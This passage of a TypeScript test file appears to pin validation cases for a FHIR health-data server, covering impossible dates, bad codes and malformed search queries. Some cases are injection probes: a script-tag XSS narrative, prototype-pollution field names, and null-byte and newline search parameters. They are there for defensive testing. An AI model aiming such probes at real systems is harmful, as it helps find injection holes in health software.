  writeCase('!unknown-field constructor', 'Condition', JSON.stringify({ ...template('Condition'), code: { text: 'HTA', constructor: 'x' } }), FHIR_JSON, 'reject'),
  writeCase('!impossible period ends before it starts', 'Encounter', JSON.stringify({ ...template('Encounter'), period: { start: '2025-03-03T10:00:00-05:00', end: '2025-03-03T09:00:00-05:00' } }), FHIR_JSON, 'reject'),
  writeCase('!impossible heart rate 900/min', 'Observation', JSON.stringify({ ...template('Observation'), valueQuantity: { value: 900, unit: 'lpm', system: UCUM, code: '/min' } }), FHIR_JSON, 'reject'),
  writeCase('!impossible appointment ends before it starts', 'Appointment', JSON.stringify({ ...template('Appointment', 999_999), end: '2000-01-01T00:00:00Z' }), FHIR_JSON, 'reject'),
  writeCase('!impossible slot ends before it starts', 'Slot', JSON.stringify({ ...template('Slot'), start: '2031-05-05T10:00:00Z', end: '2031-05-05T09:00:00Z' }), FHIR_JSON, 'reject'),
  writeCase('!bad-code ContactPoint.system', 'Patient', JSON.stringify({ ...template('Patient'), telecom: [{ system: 'banana', value: '+57 300 123 4567' }] }), FHIR_JSON, 'reject'),
  writeCase('!bad-code HumanName.use', 'Patient', JSON.stringify({ ...template('Patient'), name: [{ use: 'banana', family: 'Núñez' }] }), FHIR_JSON, 'reject'),
  writeCase('!bad-code Narrative.status', 'Organization', JSON.stringify({ ...template('Organization'), text: { status: 'banana', div: xhtml('x') } }), FHIR_JSON, 'reject'),
  writeCase('!script-narrative', 'Patient', JSON.stringify({ ...template('Patient'), text: { status: 'generated', div: xhtml('<script>alert(1)</script>') } }), FHIR_JSON, 'reject'),
];

const PINNED_UPDATE: UpdateCase[] = [
  updateCaseOf(writeCase('valid', 'Patient', JSON.stringify(validBody('Patient', true)), FHIR_JSON, 'any'), 'missing', 'target'),
  updateCaseOf(writeCase('valid', 'Observation', JSON.stringify(validBody('Observation', true)), FHIR_JSON, 'any'), 'stale', 'target'),
  updateCaseOf(writeCase('valid', 'Composition', JSON.stringify(validBody('Composition', true)), FHIR_JSON, 'any'), 'current', 'target'),
  updateCaseOf(writeCase('lone surrogate in a string', 'Patient', JSON.stringify({ ...validBody('Patient', true), name: [{ family: '\udfffa' }] }), FHIR_JSON, 'any'), 'current', 'target'),
  updateCaseOf(writeCase('!bad-date 2024-02-30', 'Patient', JSON.stringify({ ...validBody('Patient', true), birthDate: '2024-02-30' }), FHIR_JSON, 'reject'), 'current', 'target'),
  updateCaseOf(writeCase('!unknown-field toString', 'Observation', JSON.stringify({ ...validBody('Observation', true), toString: 'x' }), FHIR_JSON, 'reject'), 'current', 'target'),
];

const PINNED_SEARCH: [string, string, Expect][] = [
  ['Patient', 'birthdate=9999', 'any'],
  ['Patient', 'birthdate=le9999-12-31', 'any'],
  ['Appointment', '_lastUpdated=gt9999', 'any'],
  ['Patient', 'birthdate=0001-01-01T00:00:00%2B14:00', 'any'],
  ['Patient', 'name=a%00b', 'any'],
  ['Patient', 'identifier=%00', 'any'],
  ['Observation', 'code=8867-4,%00', 'any'],
  ['Appointment', 'status=booked%00', 'any'],
  ['Patient', 'birthdate=2024%0A', 'reject'],
  ['Slot', '_lastUpdated=ge%0A2024', 'reject'],
  ['Patient', '_count=-1', 'reject'],
  ['Patient', '_sort=whatever', 'reject'],
  ['Observation', 'date=ge2024-13', 'reject'],
  ['Appointment', 'date=2024-02-30', 'reject'],
  ['Patient', 'birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024&birthdate=2024', 'reject'],
];
